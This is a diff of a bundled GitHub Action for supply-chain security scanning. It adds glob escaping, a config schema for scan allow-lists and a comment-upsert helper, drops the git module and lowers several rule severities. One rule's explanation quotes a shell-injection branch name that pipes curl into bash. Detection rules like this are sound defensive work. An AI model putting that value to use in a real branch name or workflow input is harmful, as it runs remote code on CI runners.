@@ -16294,7 +16294,7 @@ module.exports = Queue;
 /***/ ((module, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _main__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(6372);
+/* harmony import */ var _main__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(7053);
 // Entry point of the CLI bundle.
 
 process.exitCode = await (0,_main__WEBPACK_IMPORTED_MODULE_0__/* .main */ .i)(process.argv.slice(2), {
@@ -16309,7 +16309,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 6372:
+/***/ 7053:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -16631,6 +16631,14 @@ function isCalendarDate(d) {
     const t = Date.parse(`${d}T00:00:00Z`);
     return /^\d{4}-\d{2}-\d{2}$/.test(d) && !Number.isNaN(t) && new Date(t).toISOString().slice(0, 10) === d;
 }
+/**
+ * A `path` that matches exactly this file, whatever characters its name holds
+ * (`[`, `*`, `{`, `!`... are glob syntax in `path`): for entries built from a
+ * finding's own location, such as an inline comment's.
+ */
+function literalPath(file) {
+    return file.replace(/[\\*?[\]{}()!+@|^$.,]/g, '\\$&');
+}
 
 ;// CONCATENATED MODULE: ./packages/core/src/errors.ts
 // Errors meant for the user: one line, naming the file (and line) or input at
@@ -16771,7 +16779,7 @@ var ajv = __nccwpck_require__(2463);
 // EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
 var dist = __nccwpck_require__(8815);
 ;// CONCATENATED MODULE: ./packages/core/schema/config.schema.json
-const config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","$id":"https://github.com/scientific-python/security-actions/blob/main/packages/core/schema/config.schema.json","title":"security-actions configuration (.github/security-actions.yml)","description":"Per-repository settings shared by every security-actions action: severity overrides, ignores with reasons and expiry, and one section per action.","type":"object","additionalProperties":false,"definitions":{"propertyMatch":{"description":"A custom property and the value (or values) that mark a repository.","type":"object","additionalProperties":false,"required":["property","value"],"properties":{"property":{"type":"string","minLength":1},"value":{"oneOf":[{"type":"string","minLength":1},{"type":"array","minItems":1,"items":{"type":"string","minLength":1}}]}}}},"properties":{"version":{"description":"Format version of this file.","const":1},"rules":{"description":"Per-rule overrides, keyed by rule id (see docs/<action>.md for the ids).","type":"object","propertyNames":{"pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["severity"],"properties":{"severity":{"description":"The severity every finding of this rule gets.","enum":["info","low","medium","high","critical"]},"reason":{"description":"Why the default does not fit this project.","type":"string"}}}},"ignores":{"description":"Findings to suppress. Each needs a reason; one with an expiry date turns back into a finding after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["rule"]},{"required":["fingerprint"]}],"properties":{"rule":{"description":"Rule id the ignore applies to.","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"path":{"description":"Glob of files (relative to the repository root) the ignore applies to.","type":"string","minLength":1},"line":{"description":"Only the finding on this line (needs path).","type":"integer","minimum":1},"fingerprint":{"description":"Only the finding with this fingerprint (shown in every report).","type":"string","pattern":"^[0-9a-f]{32}$"},"reason":{"description":"Why this is safe to ignore; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the ignore applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"access-audit":{"description":"Settings of access-audit (docs/access-audit.md).","type":"object","additionalProperties":false,"properties":{"exemptions":{"description":"Repositories (or single checks on them) left out of the audit, each with a reason and an expiry.","type":"array","items":{"type":"object","additionalProperties":false,"required":["repo","reason"],"properties":{"repo":{"description":"Repository name or glob; \'*\' also matches organization-level findings.","type":"string","minLength":1},"check":{"description":"Only this check (finding id, e.g. repo/deploy-key-write); absent: the whole repository is not audited.","type":"string","pattern":"^[a-z0-9-]+/[a-z0-9-]+$"},"reason":{"description":"Why; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the exemption applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"packages":{"description":"PyPI packages published from each repository (repository name → package names); repositories not listed are discovered from pyproject.toml.","type":"object","additionalProperties":{"type":"array","items":{"type":"string","minLength":1}}},"max-owners":{"description":"More organization owners than this is reported (default 5).","type":"integer","minimum":2},"max-admins":{"description":"More repository admins than this is reported (default 5).","type":"integer","minimum":2},"token-secret-patterns":{"description":"Regular expressions (case-insensitive) of secret names that look like long-lived publish tokens; replaces the defaults.","type":"array","items":{"type":"string","minLength":1}},"release-environments":{"description":"Regular expression (case-insensitive) of environment names treated as release environments.","type":"string","minLength":1},"allowed-apps":{"description":"GitHub App slugs approved to be installed on all repositories with write access (org/app-broad-write is not reported for them).","type":"array","items":{"type":"string","minLength":1}},"require-signed-commits":{"description":"Repositories (names or globs; true: all) whose default branch must require signed commits (repo/signed-commits-not-required). Default: not checked.","oneOf":[{"type":"boolean"},{"type":"array","items":{"type":"string","minLength":1}}]},"custom-properties":{"description":"Organization custom properties that mark repositories: exempt ones are not audited, critical ones have every finding raised one severity.","type":"object","additionalProperties":false,"properties":{"exempt":{"$ref":"#/definitions/propertyMatch"},"critical":{"$ref":"#/definitions/propertyMatch"}}}}},"pr-anomaly-scan":{"description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object"},"sign-release":{"description":"Settings of sign-release (docs/sign-release.md).","type":"object"},"verify-deps":{"description":"Settings of verify-deps (docs/verify-deps.md): its policy; a file named by its `policy` input takes the same keys.","type":"object","additionalProperties":false,"properties":{"provenance":{"description":"Provenance mode for this repository; the stricter of this and the action input applies.","enum":["require","warn","off"]},"publishers":{"description":"Expected Trusted Publisher per package (PEP 503 name): one or a list.","type":"object","additionalProperties":{"anyOf":[{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}},{"type":"array","items":{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}}}]}},"allow-tags":{"description":"Owners whose actions may be pinned to a tag, reported at a lower severity.","type":"array","items":{"anyOf":[{"type":"string"},{"type":"object","additionalProperties":false,"required":["owner"],"properties":{"owner":{"type":"string"},"severity":{"enum":["info","low","medium","high","critical"]}}}]}},"ignore":{"description":"Advisories, rules or packages to suppress, each with a reason and an optional expiry (YYYY-MM-DD).","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["id"]},{"required":["rule"]},{"required":["package"]}],"properties":{"id":{"type":"string"},"rule":{"type":"string"},"package":{"type":"string"},"reason":{"type":"string","minLength":5},"expires":{"type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"cooldown-days":{"description":"Minimum age in days of a locked release (0: off).","type":"integer","minimum":0},"typosquat-allow":{"description":"Direct dependencies never reported as typosquats.","type":"array","items":{"type":"string"}}}}}}');
+const config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","$id":"https://github.com/scientific-python/security-actions/blob/main/packages/core/schema/config.schema.json","title":"security-actions configuration (.github/security-actions.yml)","description":"Per-repository settings shared by every security-actions action: severity overrides, ignores with reasons and expiry, and one section per action.","type":"object","additionalProperties":false,"definitions":{"propertyMatch":{"description":"A custom property and the value (or values) that mark a repository.","type":"object","additionalProperties":false,"required":["property","value"],"properties":{"property":{"type":"string","minLength":1},"value":{"oneOf":[{"type":"string","minLength":1},{"type":"array","minItems":1,"items":{"type":"string","minLength":1}}]}}}},"properties":{"version":{"description":"Format version of this file.","const":1},"rules":{"description":"Per-rule overrides, keyed by rule id (see docs/<action>.md for the ids).","type":"object","propertyNames":{"pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["severity"],"properties":{"severity":{"description":"The severity every finding of this rule gets.","enum":["info","low","medium","high","critical"]},"reason":{"description":"Why the default does not fit this project.","type":"string"}}}},"ignores":{"description":"Findings to suppress. Each needs a reason; one with an expiry date turns back into a finding after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["rule"]},{"required":["fingerprint"]}],"properties":{"rule":{"description":"Rule id the ignore applies to.","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"path":{"description":"Glob of files (relative to the repository root) the ignore applies to.","type":"string","minLength":1},"line":{"description":"Only the finding on this line (needs path).","type":"integer","minimum":1},"fingerprint":{"description":"Only the finding with this fingerprint (shown in every report).","type":"string","pattern":"^[0-9a-f]{32}$"},"reason":{"description":"Why this is safe to ignore; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the ignore applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"access-audit":{"description":"Settings of access-audit (docs/access-audit.md).","type":"object","additionalProperties":false,"properties":{"exemptions":{"description":"Repositories (or single checks on them) left out of the audit, each with a reason and an expiry.","type":"array","items":{"type":"object","additionalProperties":false,"required":["repo","reason"],"properties":{"repo":{"description":"Repository name or glob; \'*\' also matches organization-level findings.","type":"string","minLength":1},"check":{"description":"Only this check (finding id, e.g. repo/deploy-key-write); absent: the whole repository is not audited.","type":"string","pattern":"^[a-z0-9-]+/[a-z0-9-]+$"},"reason":{"description":"Why; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the exemption applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"packages":{"description":"PyPI packages published from each repository (repository name → package names); repositories not listed are discovered from pyproject.toml.","type":"object","additionalProperties":{"type":"array","items":{"type":"string","minLength":1}}},"max-owners":{"description":"More organization owners than this is reported (default 5).","type":"integer","minimum":2},"max-admins":{"description":"More repository admins than this is reported (default 5).","type":"integer","minimum":2},"token-secret-patterns":{"description":"Regular expressions (case-insensitive) of secret names that look like long-lived publish tokens; replaces the defaults.","type":"array","items":{"type":"string","minLength":1}},"release-environments":{"description":"Regular expression (case-insensitive) of environment names treated as release environments.","type":"string","minLength":1},"allowed-apps":{"description":"GitHub App slugs approved to be installed on all repositories with write access (org/app-broad-write is not reported for them).","type":"array","items":{"type":"string","minLength":1}},"require-signed-commits":{"description":"Repositories (names or globs; true: all) whose default branch must require signed commits (repo/signed-commits-not-required). Default: not checked.","oneOf":[{"type":"boolean"},{"type":"array","items":{"type":"string","minLength":1}}]},"custom-properties":{"description":"Organization custom properties that mark repositories: exempt ones are not audited, critical ones have every finding raised one severity.","type":"object","additionalProperties":false,"properties":{"exempt":{"$ref":"#/definitions/propertyMatch"},"critical":{"$ref":"#/definitions/propertyMatch"}}}}},"pr-anomaly-scan":{"description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object","additionalProperties":false,"properties":{"allow":{"description":"Known fixtures and lines, matched on the SHA-256 of a binary file\'s content or of a finding\'s trimmed source line (`contentSha256` in the JSON report). Each needs a reason; one with an expiry date stops applying after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["sha256","reason"],"properties":{"sha256":{"description":"The content hash: 64 lower-case hex digits.","type":"string","pattern":"^[0-9a-f]{64}$"},"reason":{"description":"Why this content is safe; shown in every report.","type":"string","minLength":1,"pattern":"\\\\S"},"rule":{"description":"Only findings of this rule id (default: any rule).","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"expires":{"description":"Last day (YYYY-MM-DD) the entry applies.","type":"string","pattern":"^\\\\d{4}-(0[1-9]|1[0-2])-(0[1-9]|[12]\\\\d|3[01])$"}}}}}},"sign-release":{"description":"Settings of sign-release (docs/sign-release.md).","type":"object"},"verify-deps":{"description":"Settings of verify-deps (docs/verify-deps.md): its policy; a file named by its `policy` input takes the same keys.","type":"object","additionalProperties":false,"properties":{"provenance":{"description":"Provenance mode for this repository; the stricter of this and the action input applies.","enum":["require","warn","off"]},"publishers":{"description":"Expected Trusted Publisher per package (PEP 503 name): one or a list.","type":"object","additionalProperties":{"anyOf":[{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}},{"type":"array","items":{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}}}]}},"allow-tags":{"description":"Owners whose actions may be pinned to a tag, reported at a lower severity.","type":"array","items":{"anyOf":[{"type":"string"},{"type":"object","additionalProperties":false,"required":["owner"],"properties":{"owner":{"type":"string"},"severity":{"enum":["info","low","medium","high","critical"]}}}]}},"ignore":{"description":"Advisories, rules or packages to suppress, each with a reason and an optional expiry (YYYY-MM-DD).","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["id"]},{"required":["rule"]},{"required":["package"]}],"properties":{"id":{"type":"string"},"rule":{"type":"string"},"package":{"type":"string"},"reason":{"type":"string","minLength":5},"expires":{"type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"cooldown-days":{"description":"Minimum age in days of a locked release (0: off).","type":"integer","minimum":0},"typosquat-allow":{"description":"Direct dependencies never reported as typosquats.","type":"array","items":{"type":"string"}}}}}}');
 ;// CONCATENATED MODULE: ./packages/core/src/yaml.ts
 // YAML with source positions, shared by the config loader and the workflow
 // readers so every YAML error reads the same: `file:line: message`.
@@ -17840,6 +17848,63 @@ function describeApiError(e, permission) {
     if (status && status >= 500)
         return `GitHub API error ${status}`;
     return `GitHub API unreachable: ${msg}`;
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/marked.ts
+/** The hidden HTML comment that marks a body as ours. */
+const markerTag = (marker) => `<!-- ${marker} -->`;
+/**
+ * Updates the comment or issue whose body carries `marker`, or creates it.
+ * Errors (permissions, rate limits) are thrown for the caller to describe.
+ */
+async function upsertMarked(rest, target, marker, body) {
+    const tag = markerTag(marker);
+    const { owner, repo } = target;
+    const maxPages = target.maxPages ?? Infinity;
+    if (target.kind === 'comment') {
+        let existing;
+        for (let page = 1; page <= maxPages && existing === undefined; page++) {
+            const { data } = await rest.rest.issues.listComments({
+                owner,
+                repo,
+                issue_number: target.issue,
+                per_page: 100,
+                page
+            });
+            existing = data.find((c) => c.body?.includes(tag))?.id;
+            if (data.length < 100)
+                break;
+        }
+        if (existing !== undefined) {
+            await rest.rest.issues.updateComment({ owner, repo, comment_id: existing, body });
+            return { action: 'updated', id: existing };
+        }
+        const { data } = await rest.rest.issues.createComment({ owner, repo, issue_number: target.issue, body });
+        return { action: 'created', id: data.id };
+    }
+    let page = 0;
+    for await (const { data } of rest.paginate.iterator(rest.rest.issues.listForRepo, {
+        owner,
+        repo,
+        state: 'open',
+        per_page: 100
+    })) {
+        const existing = data.find((i) => !i.pull_request && i.body?.includes(tag));
+        if (existing) {
+            await rest.rest.issues.update({ owner, repo, issue_number: existing.number, body });
+            return { action: 'updated', id: existing.number };
+        }
+        if (++page >= maxPages)
+            break;
+    }
+    const { data } = await rest.rest.issues.create({
+        owner,
+        repo,
+        title: target.title,
+        body,
+        ...(target.labels?.length ? { labels: target.labels } : {})
+    });
+    return { action: 'created', id: data.number };
 }
 
 ;// CONCATENATED MODULE: ./packages/core/src/action.ts
@@ -23078,364 +23143,8 @@ function parseJson(text, file) {
     }
 }
 
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/git.ts
-// Reads a PR's changes from a local checkout with git, streaming, without ever
-// running anything the PR controls: git is spawned with an argv array (no
-// shell), hooks, fsmonitor, external diff drivers and textconv filters off.
-
-
-/** Options that stop repository config (which a PR cannot change, but a poisoned cache could) from running programs. */
-const SAFE = [
-    '-c',
-    'core.fsmonitor=',
-    '-c',
-    'core.hooksPath=/dev/null',
-    '-c',
-    'diff.external=',
-    '-c',
-    'core.quotePath=true',
-    '-c',
-    'core.bigFileThreshold=64m',
-    '-c',
-    'diff.renameLimit=2000',
-    '--literal-pathspecs'
-];
-const DIFF_FLAGS = ['--no-ext-diff', '--no-textconv', '--no-color', '-M', '--src-prefix=a/', '--dst-prefix=b/'];
-const GIT_ENV = { GIT_TERMINAL_PROMPT: '0', GIT_OPTIONAL_LOCKS: '0', GIT_CONFIG_NOSYSTEM: '1', LC_ALL: 'C' };
-/** Longest added line kept whole; longer ones are cut (a minified bundle line can be megabytes). */
-const MAX_LINE = 256 * 1024;
-/** Added text kept per file for the content rules; the rest is counted, not kept. */
-const MAX_ADDED_PER_FILE = 8 * 1024 * 1024;
-const ZERO = /^0+$/;
-const isNullSha = (s) => ZERO.test(s);
-/** Runs git, feeding stdout chunks to `onData`; resolves when it exits. */
-function git(repo, args, onData, stdin) {
-    return new Promise((resolve, reject) => {
-        const child = (0,external_node_child_process_namespaceObject.spawn)('git', ['-C', repo, ...SAFE, ...args], {
-            env: { ...process.env, ...GIT_ENV },
-            stdio: ['pipe', 'pipe', 'pipe']
-        });
-        let stderr = '';
-        child.stdout.on('data', (b) => onData?.(b));
-        child.stderr.on('data', (b) => {
-            if (stderr.length < 4096)
-                stderr += b.toString();
-        });
-        child.on('error', (e) => reject(new UserError(`cannot run git: ${e.message}`)));
-        child.on('close', (code) => resolve({ code, stderr: stderr.trim() }));
-        child.stdin.on('error', () => undefined);
-        child.stdin.end(stdin ?? '');
-    });
-}
-async function gitText(repo, args) {
-    const chunks = [];
-    const r = await git(repo, args, (b) => chunks.push(b));
-    return { ...r, out: Buffer.concat(chunks).toString('utf8') };
-}
-/** The commit a ref names, or a UserError saying why it is not there. */
-async function resolveCommit(repo, ref, what) {
-    if (!ref || ref.startsWith('-'))
-        throw new UserError(`${what}: '${ref}' is not a commit reference`);
-    const r = await gitText(repo, ['rev-parse', '--verify', '--quiet', '--end-of-options', `${ref}^{commit}`]);
-    if (r.code === 0)
-        return r.out.trim();
-    const inside = await gitText(repo, ['rev-parse', '--is-inside-work-tree']);
-    if (inside.code !== 0)
-        throw new UserError(`${repo} is not a git checkout (${inside.stderr.split('\n')[0] || 'git rev-parse failed'})`);
-    const shallow = (await gitText(repo, ['rev-parse', '--is-shallow-repository'])).out.trim() === 'true';
-    throw new UserError(`${what} commit '${ref}' is not in the checkout${shallow ? ' (shallow clone: check out with fetch-depth: 0)' : ''}`);
-}
-/** The merge base, so the diff is what the PR adds (`base...head`). */
-async function mergeBase(repo, base, head) {
-    const r = await gitText(repo, ['merge-base', base, head]);
-    if (r.code === 0)
-        return r.out.trim();
-    const shallow = (await gitText(repo, ['rev-parse', '--is-shallow-repository'])).out.trim() === 'true';
-    throw new UserError(`no common ancestor of base ${base.slice(0, 12)} and head ${head.slice(0, 12)}${shallow ? ' (shallow clone: check out with fetch-depth: 0)' : ''}`);
-}
-/** Per-file status from `git diff --raw --numstat -z`. */
-async function listChanges(repo, from, to) {
-    const chunks = [];
-    const res = await git(repo, ['diff', '--raw', '--no-abbrev', '--numstat', '-z', ...DIFF_FLAGS, from, to, '--'], (b) => chunks.push(b));
-    if (res.code !== 0)
-        throw new UserError(`git diff failed: ${res.stderr.split('\n')[0]}`);
-    const tokens = Buffer.concat(chunks).toString('utf8').split('\0');
-    const files = [];
-    let i = 0;
-    for (; i < tokens.length && tokens[i].startsWith(':');) {
-        const [oldMode, newMode, oldSha, newSha, st] = tokens[i].slice(1).split(' ');
-        const code = st[0];
-        const two = code === 'R' || code === 'C';
-        const oldPath = tokens[i + 1];
-        const path = two ? tokens[i + 2] : oldPath;
-        i += two ? 3 : 2;
-        const status = code === 'A'
-            ? 'added'
-            : code === 'D'
-                ? 'deleted'
-                : code === 'R'
-                    ? 'renamed'
-                    : code === 'C'
-                        ? 'copied'
-                        : code === 'T'
-                            ? 'typechange'
-                            : 'modified';
-        files.push({
-            status,
-            path,
-            oldPath: two ? oldPath : undefined,
-            oldMode,
-            newMode,
-            oldSha,
-            newSha,
-            binary: false,
-            addedCount: 0,
-            deletedCount: 0
-        });
-    }
-    // numstat follows in the same order: `A\tD\tpath` or `A\tD\t` + old + new for renames.
-    for (const f of files) {
-        const t = tokens[i];
-        if (t === undefined)
-            break;
-        const [a, d, p] = t.split('\t');
-        i += p === '' ? 3 : 1;
-        f.binary = a === '-' && d === '-';
-        f.addedCount = Number(a) || 0;
-        f.deletedCount = Number(d) || 0;
-    }
-    return files;
-}
-/** Splits a byte stream into lines, keeping at most MAX_LINE bytes of each. */
-class LineSplitter {
-    onLine;
-    parts = [];
-    kept = 0;
-    cut = false;
-    constructor(onLine) {
-        this.onLine = onLine;
-    }
-    push(b) {
-        let start = 0;
-        for (let nl = b.indexOf(10, start); nl >= 0; nl = b.indexOf(10, start)) {
-            if (!this.parts.length && nl - start <= MAX_LINE) {
-                this.onLine(b.toString('utf8', start, nl), false); // the common case: a whole line inside one chunk, no copy
-            }
-            else {
-                this.take(b.subarray(start, nl));
-                this.flush();
-            }
-            start = nl + 1;
-        }
-        if (start < b.length)
-            this.take(b.subarray(start));
-    }
-    end() {
-        if (this.kept || this.parts.length)
-            this.flush();
-    }
-    take(b) {
-        const room = MAX_LINE - this.kept;
-        if (b.length > room)
-            this.cut = true;
-        const part = b.length > room ? b.subarray(0, room) : b;
-        if (part.length) {
-            this.parts.push(Buffer.from(part));
-            this.kept += part.length;
-        }
-    }
-    flush() {
-        const line = this.parts.length === 1 ? this.parts[0].toString('utf8') : Buffer.concat(this.parts).toString('utf8');
-        this.onLine(line, this.cut);
-        this.parts = [];
-        this.kept = 0;
-        this.cut = false;
-    }
-}
-/** Undoes git's C-style quoting of unusual paths (`"caf\303\251.py"`). */
-function unquotePath(s) {
-    if (!s.startsWith('"'))
-        return s;
-    const bytes = [];
-    const esc = { n: 10, t: 9, r: 13, a: 7, b: 8, f: 12, v: 11, '"': 34, '\\': 92 };
-    for (let i = 1; i < s.length - 1; i++) {
-        const c = s[i];
-        if (c !== '\\') {
-            bytes.push(...Buffer.from(c, 'utf8'));
-            continue;
-        }
-        const n = s[++i];
-        if (/[0-7]/.test(n)) {
-            bytes.push(parseInt(s.slice(i, i + 3), 8));
-            i += 2;
-        }
-        else
-            bytes.push(esc[n] ?? n.charCodeAt(0));
-    }
-    return Buffer.from(bytes).toString('utf8');
-}
-/**
- * Streams the added lines of every text file in `from..to` (`-U0` patch) and
- * calls `onFile` as each file's section ends, so memory holds one file at a time.
- */
-async function streamAddedLines(repo, from, to, onFile, 
-/** Diff only these paths, as text whatever the attributes say (`--text`). */
-asText) {
-    let current;
-    let nextLine = 0;
-    let kept = 0;
-    const finish = () => {
-        if (current) {
-            onFile(current); // analysed there; nothing here keeps the text
-        }
-        current = undefined;
-    };
-    const splitter = new LineSplitter((line, cut) => {
-        const c = line.charCodeAt(0);
-        if (current && c === 43 /* + */ && !line.startsWith('+++ ')) {
-            if (kept + line.length <= MAX_ADDED_PER_FILE) {
-                current.added.push(cut ? { line: nextLine, text: line.slice(1), cut } : { line: nextLine, text: line.slice(1) });
-                kept += line.length;
-            }
-            else
-                current.addedTruncated = true;
-            nextLine++;
-        }
-        else if (line.startsWith('@@ ')) {
-            const m = /^@@ -\d+(?:,\d+)? \+(\d+)(?:,\d+)? @@/.exec(line);
-            if (m)
-                nextLine = Number(m[1]);
-        }
-        else if (line.startsWith('diff --git ')) {
-            finish();
-        }
-        else if (line.startsWith('+++ ')) {
-            const p = line.slice(4).replace(/\t$/, ''); // git appends a tab to names with spaces
-            if (p !== '/dev/null') {
-                const path = unquotePath(p).replace(/^b\//, '');
-                current = { path, added: [], addedTruncated: false };
-                kept = 0;
-            }
-        }
-    });
-    const args = asText
-        ? ['diff', '-p', '-U0', '--text', ...DIFF_FLAGS, from, to, '--', ...asText]
-        : ['diff', '-p', '-U0', ...DIFF_FLAGS, from, to, '--'];
-    const res = await git(repo, args, (b) => splitter.push(b));
-    splitter.end();
-    finish();
-    if (res.code !== 0)
-        throw new UserError(`git diff failed: ${res.stderr.split('\n')[0]}`);
-}
-/**
- * Streams blobs through `git cat-file --batch`; `open` is called per blob with
- * its size and returns where the bytes go. A 1 GB blob never sits in memory.
- */
-async function streamBlobs(repo, shas, open) {
-    if (!shas.length)
-        return;
-    let header = [];
-    let sink;
-    let left = -1; // bytes of the current blob still to come; -1: reading a header; -2: skipping the newline after a blob
-    const onData = (b) => {
-        let i = 0;
-        while (i < b.length) {
-            if (left === -2) {
-                i++; // the newline git prints after each blob
-                left = -1;
-                continue;
-            }
-            if (left === -1) {
-                const nl = b.indexOf(10, i);
-                if (nl < 0) {
-                    header.push(b.subarray(i));
-                    return;
-                }
-                header.push(b.subarray(i, nl));
-                const h = Buffer.concat(header).toString('utf8');
-                header = [];
-                i = nl + 1;
-                const [sha, type, size] = h.split(' ');
-                if (type === 'missing' || size === undefined)
-                    continue;
-                left = Number(size);
-                sink = open(sha, left);
-                if (left === 0) {
-                    sink?.end();
-                    left = -2;
-                }
-                continue;
-            }
-            const n = Math.min(left, b.length - i);
-            sink?.chunk(b.subarray(i, i + n));
-            i += n;
-            left -= n;
-            if (left === 0) {
-                sink?.end();
-                left = -2;
-            }
-        }
-    };
-    const res = await git(repo, ['cat-file', '--batch'], onData, shas.join('\n') + '\n');
-    if (res.code !== 0)
-        throw new UserError(`git cat-file failed: ${res.stderr.split('\n')[0]}`);
-}
-/** Whole text of small blobs (workflows, manifests), keyed by sha; larger ones are skipped. */
-async function readTexts(repo, shas, maxBytes = 2 * 1024 * 1024) {
-    const out = new Map();
-    await streamBlobs(repo, [...new Set(shas.filter((s) => !isNullSha(s)))], (sha, size) => {
-        if (size > maxBytes)
-            return undefined;
-        const parts = [];
-        return { chunk: (b) => parts.push(Buffer.from(b)), end: () => out.set(sha, Buffer.concat(parts).toString('utf8')) };
-    });
-    return out;
-}
-async function listCommits(repo, from, to, max = 250) {
-    const r = await gitText(repo, [
-        'log',
-        '--no-show-signature',
-        `--max-count=${max}`,
-        '--format=%H%x00%an%x00%ae%x00%cn%x00%ce%x00%s%x1e',
-        `${from}..${to}`,
-        '--'
-    ]);
-    if (r.code !== 0)
-        return [];
-    return r.out
-        .split('\x1e')
-        .map((s) => s.trim())
-        .filter(Boolean)
-        .map((s) => {
-        const [sha, authorName, authorEmail, committerName, committerEmail, subject] = s.split('\0');
-        return { sha, authorName, authorEmail, committerName, committerEmail, subject };
-    });
-}
-/** Sizes of blobs without reading them (`cat-file --batch-check`). */
-async function blobSizes(repo, shas) {
-    const out = new Map();
-    const want = [...new Set(shas.filter((s) => !isNullSha(s)))];
-    if (!want.length)
-        return out;
-    const chunks = [];
-    await git(repo, ['cat-file', '--batch-check'], (b) => chunks.push(b), want.join('\n') + '\n');
-    for (const line of Buffer.concat(chunks).toString('utf8').split('\n')) {
-        const [sha, type, size] = line.split(' ');
-        if (type === 'blob')
-            out.set(sha, Number(size));
-    }
-    return out;
-}
-/** A file's text at a commit, or undefined when it does not exist there. */
-async function readFileAt(repo, commit, path) {
-    const r = await gitText(repo, ['cat-file', 'blob', `${commit}:${path}`]);
-    return r.code === 0 ? r.out : undefined;
-}
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/rules.ts
-// Rules of pr-anomaly-scan. Ids are stable: configs, inline ignores and
-// code-scanning alerts refer to them. `family` groups them for the risk score.
-
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/incidents.ts
+// The incidents the rules cite as references.
 const XZ = {
     title: 'xz-utils backdoor (CVE-2024-3094)',
     url: 'https://www.openwall.com/lists/oss-security/2024/03/29/4'
@@ -23454,6 +23163,13 @@ const PYTORCH = {
     title: 'PyTorch self-hosted runner compromise (2024)',
     url: 'https://johnstawinski.com/2024/01/11/playing-with-fire-how-we-executed-a-critical-supply-chain-attack-on-pytorch/'
 };
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/rules.ts
+// Rules of pr-anomaly-scan. Ids are stable: configs, inline ignores and
+// code-scanning alerts refer to them. A rule's group (its id's prefix) is the
+// family the risk score chains.
+
+
 // --- workflows ---------------------------------------------------------------
 const rules_RULES = defineRules({
     WF_DANGEROUS_TRIGGER: {
@@ -23565,7 +23281,7 @@ const rules_RULES = defineRules({
     BUILD_AUTOTOOLS: {
         id: 'build/autotools',
         title: 'Autotools or m4 macro changed',
-        severity: 'high',
+        severity: 'medium',
         why: 'The xz backdoor was triggered by an edited `build-to-host.m4`; m4 is rarely reviewed and runs shell at configure time.',
         remediation: 'Compare the macro with its upstream (gnulib, autoconf-archive) and reject unexplained changes.',
         spec: ['S8-16'],
@@ -23768,7 +23484,7 @@ const rules_RULES = defineRules({
     META_REF_INJECTION: {
         id: 'meta/branch-name-shell',
         title: 'Shell syntax in the branch name',
-        severity: 'high',
+        severity: 'medium',
         why: 'A branch name such as `$({curl,-sSfL,x}${IFS}|${IFS}bash)` runs when a workflow interpolates it (Ultralytics).',
         remediation: 'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
         spec: ['S8-16'],
@@ -23819,7 +23535,7 @@ const rules_RULES = defineRules({
     META_SUPPRESSION: {
         id: 'meta/suppression-added',
         title: 'PR adds an inline suppression',
-        severity: 'medium',
+        severity: 'low',
         why: 'An ignore comment added by the PR itself hides a finding from this scan; reviewers must agree with it.',
         remediation: 'Confirm the reason; the suppressed finding is listed in the report.',
         spec: ['S8-16']
